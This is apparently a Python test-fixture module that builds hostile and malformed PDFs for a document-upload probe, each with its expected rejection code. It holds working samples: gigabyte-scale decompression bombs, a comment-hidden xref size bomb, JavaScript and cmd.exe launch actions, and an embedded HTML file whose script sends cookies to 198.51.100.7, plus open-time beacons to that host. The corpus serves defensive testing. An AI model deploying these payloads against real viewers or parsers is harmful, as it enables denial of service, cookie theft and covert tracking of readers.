"""A generated corpus of hostile and broken PDFs, each with the rejection code the probe must give.

Files are assembled by hand (`assemble`) when the point is a malformed structure pypdf's writer would
never produce, and with pypdf or reportlab otherwise. Nothing is stored on disk; expensive makers cache.
"""

from __future__ import annotations

import functools
import io
import re
import struct
import zlib
from collections.abc import Callable

from pypdf import PdfWriter

from tests.support.sample_pdfs import sample_pdf

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"
CONTENT = b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def assemble(objects: list[bytes], *, root: int = 1, size: int | None = None, trailer_extra: bytes = b"",
             offset_shift: int = 0) -> bytes:
    """Objects numbered from 1, a classic xref table (offsets shifted by `offset_shift`), and a trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % (offset + offset_shift)
    declared = size if size is not None else len(objects) + 1
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (declared, root, trailer_extra,
                                                                                   xref_at)
    return bytes(out)


def one_page(*, catalog_extra: bytes = b"", page_extra: bytes = b"", more: list[bytes] | None = None,
             size: int | None = None, offset_shift: int = 0) -> bytes:
    """A minimal valid one-page file (objects 1-4) with extra catalog/page entries and objects 5..."""
    page = PAGE[:-2] + page_extra + b" >>"
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream(CONTENT), *(more or [])]
    return assemble(objects, size=size, offset_shift=offset_shift)


def truncated() -> bytes:
    data = sample_pdf(3)
    return data[: len(data) // 2]


def wrong_xref() -> bytes:
    return one_page(offset_shift=7)


def no_xref_garbage_tail() -> bytes:
    """xref, trailer and %%EOF replaced by binary junk: nothing left for pypdf to start from."""
    data = one_page()
    return data[: data.index(b"xref\n")] + bytes(range(256)) * 8


def garbage_after_eof() -> bytes:
    """Junk after %%EOF (mail gateways, bad uploads) is common and harmless: accepted."""
    return sample_pdf(2) + bytes(range(256)) * 800


def decompression_bomb() -> bytes:
    """A content stream of 1.14 GB of spaces (valid content!) as a 1.1 MB zlib stream, built in constant memory.

    One 64 MB segment is deflated once and ended with a full flush, which makes it byte-aligned and
    independent of what precedes it, so the segment can be repeated; the Adler-32 of n spaces is computed
    in closed form.
    """
    segment_input = b" " * (1 << 26)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = deflate.compress(segment_input) + deflate.flush(zlib.Z_FULL_FLUSH)
    repeats = 17
    n, value = repeats * len(segment_input), ord(" ")
    a = (1 + n * value) % 65521
    b = (n + value * n * (n + 1) // 2) % 65521
    body = b"\x78\xda" + segment * repeats + deflate.flush() + struct.pack(">I", (b << 16) | a)
    return assemble([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE,
        stream(body, b"/Filter /FlateDecode "),
    ])


def page_tree_loop() -> bytes:
    """Object 2 (/Pages) has kid 5 (/Pages) whose kids are 3 (a page) and 2 again."""
    return assemble([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [5 0 R] /Count 2 >>", PAGE,
        stream(CONTENT), b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 2 >>",
    ])


def javascript_openaction() -> bytes:
    return one_page(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")


def javascript_annotation() -> bytes:
    return one_page(page_extra=b" /Annots [5 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /Border [0 0 0] /A 6 0 R >>",
        b"<< /Type /Action /S /JavaScript /JS 7 0 R >>", stream(b"this.print({bUI: false});"),
    ])


def javascript_names_tree() -> bytes:
    return one_page(catalog_extra=b"/Names << /JavaScript 5 0 R >> ", more=[
        b"<< /Names [(init) 6 0 R] >>", b"<< /S /JavaScript /JS (app.alert\\('x'\\)) >>",
    ])


def page_aa_javascript() -> bytes:
    """A page-open additional action, hidden as a /JS key without /S."""
    return one_page(page_extra=b" /AA << /O << /JS (app.beep\\(0\\)) >> >>")


def launch_action() -> bytes:
    return one_page(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> ")


def embedded_file() -> bytes:
    """Attachments are refused (issue 12): a reader's viewer offers to open them; annexes are uploaded apart."""
    return one_page(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(annex.txt) 5 0 R] >> >> ", more=[
        b"<< /Type /Filespec /F (annex.txt) /EF << /F 6 0 R >> >>", stream(b"annex", b"/Type /EmbeddedFile "),
    ])


def fake_pdf_png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


def fake_pdf_html() -> bytes:
    return b"<!DOCTYPE html><html><head><title>Not a PDF</title></head><body><p>%PDF in body text</p></body></html>"


def header_only() -> bytes:
    return b"%PDF-1.7\n"


def empty_bytes() -> bytes:
    return b""


def _written(writer: PdfWriter) -> bytes:
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def encrypted() -> bytes:
    """Encrypted with an empty user password: opens without a prompt, but still refused."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("", "owner")
    return _written(writer)


def encrypted_user_password() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret", "owner", algorithm="AES-256")
    return _written(writer)


@functools.cache
def too_many_pages() -> bytes:
    writer = PdfWriter()
    for _ in range(6000):
        writer.add_blank_page(595, 842)
    return _written(writer)


def too_many_pages_lying_count() -> bytes:
    """6000 real pages under a root that declares /Count 1, so only the flattened tree tells."""
    data = too_many_pages()
    return re.sub(rb"/Count 6000\b", b"/Count 1   ", data, count=1)


def object_flood() -> bytes:
    return one_page(size=5_000_000)


def deep_nesting() -> bytes:
    """A page entry nested 100,000 arrays deep."""
    depth = 100_000
    return one_page(page_extra=b" /Deep 5 0 R", more=[b"[" * depth + b"0" + b"]" * depth])


def no_pages() -> bytes:
    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def missing_root() -> bytes:
    return assemble([b"<< /Type /Pages /Kids [] /Count 0 >>"], root=9)


def valid_vietnamese() -> bytes:
    return sample_pdf(3, title="Nghị quyết về đầu tư công")



# --- issue 12: hostile files that passed the probe or hung the verifier ----------------------------


def xref_stream_size_bomb(*, hidden: bool = False) -> bytes:
    """A cross-reference stream declaring /Size and /Index of 2^31-1 entries for two real objects: pyHanko
    (POST /api/verify) walked every declared entry, allocating without bound (~35 MB/s).

    `hidden`: the numbers are put behind comments, which PDF syntax allows anywhere whitespace is, so a quick
    scan of the bytes does not see them; only the sandbox's limits stop pyHanko then."""
    out = bytearray(b"%PDF-1.7\n")
    first = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    second = len(out)
    out += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    xref_at = len(out)
    rows = b"\x00\x00\x00\x00\x00\x00" + b"".join(b"\x01" + off.to_bytes(4, "big") + b"\x00"
                                                  for off in (first, second))
    body = zlib.compress(rows)
    size = b"/Size %x\n 2147483647 /Index %x\n [0 2147483647]" if hidden else b"/Size 2147483647 /Index [0 2147483647]"
    out += (b"3 0 obj\n<< /Type /XRef " + size + b" /W [1 4 1] /Root 1 0 R "
            b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(body)) + body + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def _bomb_body(gigabytes: float = 1.07) -> bytes:
    """A zlib stream of `gigabytes` of zero bytes in about 1 MB, built in constant memory (see
    decompression_bomb for the technique)."""
    segment_input = b"\x00" * (1 << 26)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = deflate.compress(segment_input) + deflate.flush(zlib.Z_FULL_FLUSH)
    repeats = max(1, round(gigabytes * (1 << 30) / len(segment_input)))
    n = repeats * len(segment_input)
    a, b = 1, n % 65521  # Adler-32 of n zero bytes
    return b"\x78\xda" + segment * repeats + deflate.flush() + struct.pack(">I", (b << 16) | a)


def form_xobject_bomb() -> bytes:
    """A page drawing a Form XObject whose content stream inflates to 1 GB (page content itself is small)."""
    return _page_with_xobject(b"/X1", stream(_bomb_body(), b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] "
                                                         b"/Filter /FlateDecode "))


def image_xobject_bomb() -> bytes:
    """A page with an Image XObject of 16384 x 16384 RGB pixels (768 MB decoded) in about 1 MB of Flate."""
    return _page_with_xobject(b"/Im1", stream(_bomb_body(0.75), b"/Type /XObject /Subtype /Image /Width 16384 "
                                                               b"/Height 16384 /ColorSpace /DeviceRGB "
                                                               b"/BitsPerComponent 8 /Filter /FlateDecode "))


def _page_with_xobject(name: bytes, xobject: bytes) -> bytes:
    """A one-page file whose page resources name `xobject` (object 5) as `name`, and whose content draws it."""
    page = PAGE.replace(b"/Resources << >>", b"/Resources << /XObject << " + name + b" 5 0 R >> >>")
    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
                     stream(b"q 100 0 0 100 0 0 cm " + name + b" Do Q"), xobject])


def embedded_html_file() -> bytes:
    """An attached HTML page with a script (what a reader's PDF viewer offers to open)."""
    html = b"<html><body><script>fetch('http://198.51.100.7/x?'+document.cookie)</script></body></html>"
    return one_page(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(bieu-mau.html) 5 0 R] >> >> ", more=[
        b"<< /Type /Filespec /F (bieu-mau.html) /UF (bieu-mau.html) /EF << /F 6 0 R >> >>",
        stream(html, b"/Type /EmbeddedFile /Subtype /text#2Fhtml "),
    ])


def file_attachment_annotation() -> bytes:
    return one_page(page_extra=b" /Annots [5 0 R]", more=[
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 92 720] /FS 6 0 R >>",
        b"<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>", stream(b"MZ", b"/Type /EmbeddedFile "),
    ])


def xfa_javascript() -> bytes:
    xdp = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
           b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template>'
           b'</xdp:xdp>')
    return one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 5 0 R >> ", more=[stream(xdp)])


def openaction_uri() -> bytes:
    """Opening the file calls an outside address (a read receipt to whoever made it)."""
    return one_page(catalog_extra=b"/OpenAction << /S /URI /URI (http://198.51.100.7/opened) >> ")


def submitform_beacon() -> bytes:
    """A page-open additional action submitting the (empty) form to an outside host."""
    return one_page(page_extra=b" /AA << /O << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/s) >> >> >>")


def gotor_link() -> bytes:
    """A link annotation opening another (remote) file."""
    return one_page(page_extra=b" /Annots [5 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\x.pdf) "
        b"/D [0 /Fit] >> >>",
    ])


def uri_link() -> bytes:
    """A link a reader clicks to open a web page: accepted, and the link is taken out of served copies."""
    return one_page(page_extra=b" /Annots [5 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (http://198.51.100.7/law) >> >>",
    ])


def openaction_goto() -> bytes:
    """A plain GoTo open action (what office suites write): accepted."""
    return one_page(catalog_extra=b"/OpenAction [3 0 R /Fit] ")


def small_object_flood(count: int = 300_000) -> bytes:
    """`count` tiny objects, all reachable from the page: 1,000 holders of `count`/1,000 references each (pypdf
    refuses longer arrays)."""
    holders, per = 1000, count // 1000
    first_leaf = 5 + holders
    refs = b" ".join(b"%d 0 R" % n for n in range(5, first_leaf))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               PAGE[:-2] + b" /Junk [" + refs + b"] >>", stream(CONTENT)]
    objects += [b"<< /K [" + b" ".join(b"%d 0 R" % (first_leaf + h * per + i) for i in range(per)) + b"] >>"
                for h in range(holders)]
    objects += [b"<< /N %d >>" % n for n in range(holders * per)]
    return assemble(objects)


def nested_dictionaries(depth: int = 200_000) -> bytes:
    """A chain of `depth` dictionaries, each in its own object and pointing at the next, hung off the page."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               PAGE[:-2] + b" /Deep 5 0 R >>", stream(CONTENT)]
    objects += [b"<< /Next %d 0 R >>" % (n + 1) for n in range(5, 5 + depth - 1)] + [b"<< >>"]
    return assemble(objects)


CORPUS: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "truncated": (truncated, "broken_pdf"),
    "wrong_xref": (wrong_xref, None),
    "no_xref_garbage_tail": (no_xref_garbage_tail, "broken_pdf"),
    "garbage_after_eof": (garbage_after_eof, None),
    "decompression_bomb": (decompression_bomb, "decompression_bomb"),
    "page_tree_loop": (page_tree_loop, "broken_pdf"),
    "javascript_openaction": (javascript_openaction, "active_content"),
    "javascript_annotation": (javascript_annotation, "active_content"),
    "javascript_names_tree": (javascript_names_tree, "active_content"),
    "page_aa_javascript": (page_aa_javascript, "active_content"),
    "launch_action": (launch_action, "active_content"),
    "embedded_file": (embedded_file, "embedded_file"),
    "fake_pdf_png": (fake_pdf_png, "not_a_pdf"),
    "fake_pdf_html": (fake_pdf_html, "not_a_pdf"),
    "header_only": (header_only, "not_a_pdf"),
    "empty_bytes": (empty_bytes, "not_a_pdf"),
    "encrypted": (encrypted, "encrypted_pdf"),
    "encrypted_user_password": (encrypted_user_password, "encrypted_pdf"),
    "too_many_pages": (too_many_pages, "too_many_pages"),
    "too_many_pages_lying_count": (too_many_pages_lying_count, "too_many_pages"),
    "object_flood": (object_flood, "too_many_objects"),
    "deep_nesting": (deep_nesting, "broken_pdf"),
    "no_pages": (no_pages, "broken_pdf"),
    "missing_root": (missing_root, "broken_pdf"),
    "valid_vietnamese": (valid_vietnamese, None),
    # issue 12
    "xref_stream_size_bomb": (xref_stream_size_bomb, "too_many_objects"),
    "form_xobject_bomb": (form_xobject_bomb, "decompression_bomb"),
    "image_xobject_bomb": (image_xobject_bomb, "image_too_large"),
    "embedded_html_file": (embedded_html_file, "embedded_file"),
    "file_attachment_annotation": (file_attachment_annotation, "embedded_file"),
    "xfa_javascript": (xfa_javascript, "xfa_form"),
    "openaction_uri": (openaction_uri, "automatic_action"),
    "submitform_beacon": (submitform_beacon, "external_action"),
    "gotor_link": (gotor_link, "external_action"),
    "uri_link": (uri_link, None),
    "openaction_goto": (openaction_goto, None),
    "small_object_flood": (small_object_flood, "too_many_objects"),
    "nested_dictionaries": (nested_dictionaries, "too_many_objects"),
}
